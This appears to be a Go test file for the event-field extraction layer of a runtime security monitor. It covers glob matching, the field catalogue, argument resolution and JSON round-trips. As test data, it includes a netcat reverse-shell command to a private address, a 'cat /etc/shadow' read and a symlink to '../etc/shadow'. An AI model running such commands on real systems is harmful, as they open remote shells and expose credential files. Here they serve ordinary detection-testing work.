package fields

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/event"
)

func TestGlob(t *testing.T) {
	for _, c := range []struct {
		pat, s string
		fold   bool
		want   bool
	}{
		{"/usr/*", "/usr/bin/bash", false, true}, // '*' crosses '/'
		{"*", "", false, true},
		{"a?c", "abc", false, true},
		{"a?c", "ac", false, false},
		{"[a-c]x", "bx", false, true},
		{"[!a-c]x", "bx", false, false},
		{"[^a-c]x", "dx", false, true},
		{`\*x`, "*x", false, true},
		{`\*x`, "ax", false, false},
		{"/ETC/*", "/etc/passwd", true, true},
		{"/ETC/*", "/etc/passwd", false, false},
		{"*.sh", "/tmp/a.sh", false, true},
		{"*a*b*c", "xxaxxbxxc", false, true},
		{"*a*b*c", "xxaxxcxxb", false, false},
		{"[", "[", false, true},
		{"/proc*", "/proc/self", false, true},
	} {
		if got := Glob(c.pat, c.s, c.fold); got != c.want {
			t.Errorf("Glob(%q, %q, %v) = %v", c.pat, c.s, c.fold, got)
		}
	}
}

func TestCatalogue(t *testing.T) {
	c := Default()
	for _, name := range []string{
		"evt.type", "evt.res", "evt.rawres", "evt.num", "evt.is_open_read", "evt.is_open_write", "evt.arg",
		"proc.name", "proc.exe", "proc.exepath", "proc.cmdline", "proc.args", "proc.pname", "proc.pexe", "proc.pexepath",
		"proc.pcmdline", "proc.aname", "proc.aexe", "proc.aexepath", "proc.apid", "proc.tty", "proc.cwd", "proc.sname",
		"proc.vpid", "proc.env", "proc.duration", "proc.is_exe_upper_layer", "proc.is_exe_from_memfd",
		"thread.cap_effective", "thread.cap_permitted", "user.name", "user.uid", "user.loginuid", "user.loginname",
		"group.gid", "group.name", "fd.name", "fd.directory", "fd.filename", "fd.typechar", "fd.type", "fd.sip", "fd.dip",
		"fd.cip", "fd.sport", "fd.dport", "fd.cport", "fd.lport", "fd.rport", "fd.l4proto", "fd.connected", "fd.nameraw",
		"fd.num", "fd.net", "fd.snet", "fd.ip", "fd.port", "fd.sockfamily", "fd.name_changed", "fd.sip.name",
		"container.id", "container.name", "container.image.repository", "container.privileged", "container.capabilities",
		"container.mounts", "container.mount.dest", "container.mount.source", "container.user", "container.start_ts",
		"container.label", "k8s.pod.name", "k8s.ns.name", "k8s.pod.uid", "k8s.pod.label",
	} {
		f, ok := c.Lookup(name)
		if !ok {
			t.Errorf("missing field %s", name)
			continue
		}
		if f.Type == 0 || f.Extract == nil || f.Desc == "" {
			t.Errorf("incomplete field %s", name)
		}
	}
	f, _ := c.Lookup("fd.name")
	if !f.Supplied(event.ClassOpen) || !f.Supplied(event.ClassConnect) || f.Supplied(event.ClassExec) {
		t.Errorf("fd.name classes: %v", f.Classes)
	}
	if f, _ := c.Lookup("proc.vmsize"); len(f.Classes) != 0 {
		t.Errorf("proc.vmsize is not supplied but lists classes %v", f.Classes)
	}
	for _, tc := range []struct {
		name, bracket string
		has           bool
		field, arg    string
		wantErr       string
	}{
		{"evt.arg.flags", "", false, "evt.arg", "flags", ""},
		{"container.label.app", "", false, "container.label", "app", ""},
		{"container.label", "app", true, "container.label", "app", ""},
		{"proc.aname", "2", true, "proc.aname", "2", ""},
		{"proc.aname", "x", true, "", "", "numeric index"},
		{"proc.name", "1", true, "", "", "takes no argument"},
		{"container.label", "", false, "", "", "requires an argument"},
		{"proc.nope", "", false, "", "", "unknown field"},
	} {
		f, a, err := c.Resolve(tc.name, tc.bracket, tc.has)
		if tc.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("Resolve(%s): err %v, want %q", tc.name, err, tc.wantErr)
			}
			continue
		}
		if err != nil || f.Name != tc.field || a.Text != tc.arg {
			t.Errorf("Resolve(%s) = %v %+v %v", tc.name, f, a, err)
		}
	}
}

func TestExtractorsDoNotAllocate(t *testing.T) {
	ev := &event.Event{Type: event.TypeExecve}
	ev.Proc = event.Process{Comm: "bash", Argv: []string{"bash", "-c", "ls"}, ExePath: "/bin/bash", CapEffective: 1 << 21}
	var ctx Ctx
	c := Default()
	names := []string{"proc.name", "proc.cmdline", "proc.args", "thread.cap_effective", "evt.arg.flags", "container.id", "evt.time"}
	for _, n := range names {
		f, a, err := c.Resolve(n, "", false)
		if err != nil {
			t.Fatal(err)
		}
		var ap *Arg
		if a.Set {
			ap = &a
		}
		f.Extract(&ctx, ev, ap)
		ctx.Reset()
		if allocs := testing.AllocsPerRun(100, func() {
			ctx.Reset()
			f.Extract(&ctx, ev, ap)
		}); allocs != 0 {
			t.Errorf("%s: %v allocs", n, allocs)
		}
	}
	f, _ := c.Lookup("proc.cmdline")
	ctx.Reset()
	if v, _ := f.Extract(&ctx, ev, nil); v.Str != "bash -c ls" {
		t.Errorf("cmdline %q", v.Str)
	}
}

func TestRenderFlags(t *testing.T) {
	if got := string(AppendOpenFlags(nil, 0o1|0o100|0o1000|0o2000000)); got != "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC" {
		t.Errorf("flags %q", got)
	}
	if got := string(AppendOpenFlags(nil, 0o2)); got != "O_RDWR" {
		t.Errorf("flags %q", got)
	}
	if got := string(AppendCaps(nil, 1<<21|1)); got != "CAP_CHOWN CAP_SYS_ADMIN" {
		t.Errorf("caps %q", got)
	}
	if ErrnoName(2) != "ENOENT" || ErrnoName(999) != "E999" {
		t.Error("errno")
	}
}

// TestProcNameOfReexec: a program exec'd through /proc/self/exe (busybox's
// shell runs its applets so) has the comm "exe"; proc.name is its argv[0].
func TestProcNameOfReexec(t *testing.T) {
	tests := []struct {
		name, comm, exe string
		argv            []string
		want, cmdline   string
	}{
		{"busybox applet", "exe", "/bin/busybox", []string{"nc", "10.0.0.1", "4444", "-e", "/bin/sh"}, "nc", "nc 10.0.0.1 4444 -e /bin/sh"},
		{"applet by path", "exe", "/bin/busybox", []string{"/usr/bin/wget", "-q"}, "wget", "wget -q"},
		{"long argv0 cut like comm", "exe", "/bin/busybox", []string{"a-very-long-applet-name"}, "a-very-long-app", "a-very-long-app"},
		{"a binary named exe", "exe", "/opt/app/exe", []string{"server"}, "exe", "exe"},
		{"ordinary exec", "cat", "/usr/bin/cat", []string{"cat", "/etc/shadow"}, "cat", "cat /etc/shadow"},
		{"argv rewritten", "sshd", "/usr/sbin/sshd", []string{"sshd: root@pts/0"}, "sshd", "sshd"},
		{"no exe path known", "exe", "", []string{"nc"}, "exe", "exe"},
		{"comm unknown: argv[0] whole, not cut", "", "/usr/bin/kube-controller-manager", []string{"kube-controller-manager", "--v=2"}, "kube-controller-manager", "kube-controller-manager --v=2"},
	}
	name, _ := Lookup("proc.name")
	cmd, _ := Lookup("proc.cmdline")
	for _, tt := range tests {
		ev := &event.Event{Type: event.TypeExecve}
		ev.Proc.Comm, ev.Proc.ExePath, ev.Proc.Argv = tt.comm, tt.exe, tt.argv
		var c Ctx
		if v, _ := name.Extract(&c, ev, nil); v.Str != tt.want {
			t.Errorf("%s: proc.name %q, want %q", tt.name, v.Str, tt.want)
		}
		if v, _ := cmd.Extract(&c, ev, nil); v.Str != tt.cmdline {
			t.Errorf("%s: proc.cmdline %q, want %q", tt.name, v.Str, tt.cmdline)
		}
	}
}

// TestFSPathJSONMatchesFields: the JSON of an event (sensor trace, rule test
// fixtures) shows the fs.path.* values the rules read, null where they read
// none, and reads back to the same values.
func TestFSPathJSONMatchesFields(t *testing.T) {
	tests := []struct {
		name string
		ev   event.Event
	}{
		{"unlink resolved", event.Event{Type: event.TypeUnlinkat, Sys: event.Sys{Path: "/tmp/x", RawPath: "x"}}},
		{"unlink relative, unresolved", event.Event{Type: event.TypeUnlinkat, Sys: event.Sys{RawPath: "x"}}},
		{"unlink absolute, unresolved", event.Event{Type: event.TypeUnlink, Sys: event.Sys{RawPath: "/gone/x"}}},
		{"unlink raw unreadable", event.Event{Type: event.TypeUnlink, Sys: event.Sys{Path: "/tmp/x"}}},
		{"fchmod: no path", event.Event{Type: event.TypeFchmod}},
		{"rename resolved", event.Event{Type: event.TypeRenameat, Sys: event.Sys{Path: "/a/b", RawPath: "b", Path2: "/a/c", RawPath2: "c"}}},
		{"rename target unresolved", event.Event{Type: event.TypeRenameat, Sys: event.Sys{Path: "/a/b", RawPath: "b", RawPath2: "c"}}},
		{"rename target raw unreadable", event.Event{Type: event.TypeRename, Sys: event.Sys{Path: "/a/b", RawPath: "/a/b", Path2: "/a/c"}}},
		{"symlink", event.Event{Type: event.TypeSymlinkat, Sys: event.Sys{RawPath: "../etc/shadow", Path2: "/tmp/s", RawPath2: "s"}}},
		{"mount", event.Event{Type: event.TypeMount, Sys: event.Sys{RawPath: "/dev/sda1", Path2: "/mnt", RawPath2: "/mnt", Aux: "ext4"}}},
	}
	names := []string{"fs.path.name", "fs.path.nameraw", "fs.path.source", "fs.path.sourceraw", "fs.path.target", "fs.path.targetraw"}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := tt.ev
			ev.Sys.FD = -1
			j := event.AppendJSON(nil, &ev)
			var m map[string]any
			if err := json.Unmarshal(j, &m); err != nil {
				t.Fatal(err)
			}
			back, err := event.UnmarshalJSON(j)
			if err != nil {
				t.Fatal(err)
			}
			for _, n := range names {
				f, _ := Lookup(n)
				var c Ctx
				v, ok := f.Extract(&c, &ev, nil)
				jv, inJSON := m[n]
				switch {
				case !ok && inJSON && jv != nil:
					t.Errorf("%s: rules read none, JSON has %q", n, jv)
				case ok && jv != v.Str:
					t.Errorf("%s: rules read %q, JSON has %v", n, v.Str, jv)
				}
				v2, ok2 := f.Extract(&c, back, nil)
				if ok2 != ok || v2.Str != v.Str {
					t.Errorf("%s: %q (%v) read back as %q (%v)", n, v.Str, ok, v2.Str, ok2)
				}
			}
		})
	}
}
